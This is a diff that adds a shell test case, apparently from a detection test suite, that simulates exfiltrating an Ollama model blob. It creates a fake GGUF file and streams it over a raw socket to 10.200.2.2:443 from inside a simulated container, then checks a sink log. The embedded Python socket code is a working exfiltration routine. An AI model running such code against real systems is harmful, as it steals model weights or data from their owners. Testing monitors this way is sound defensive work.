@@ -1,0 +1,11 @@
+# V16 EXF-001 on an Ollama blob (GGUF without extension, outside the configured model roots), raw socket
+D="$H/ollama/models/blobs"; B="$D/sha256-$(printf v16 | sha256sum | cut -d' ' -f1)"
+python3 "$H/mkmodel.py" "$B" 6
+ctr_run simctr-infer-v16 ctr-infer --mount --pid --fork --mount-proc -- python3 -c '
+import socket, sys
+s = socket.create_connection(("10.200.2.2", 443))
+with open(sys.argv[1], "rb") as f:
+    while chunk := f.read(1 << 20):
+        s.sendall(chunk)
+s.close(); print("sent blob")' "$B"
+sleep 1; grep ':443' "$H/sink.log" | tail -1
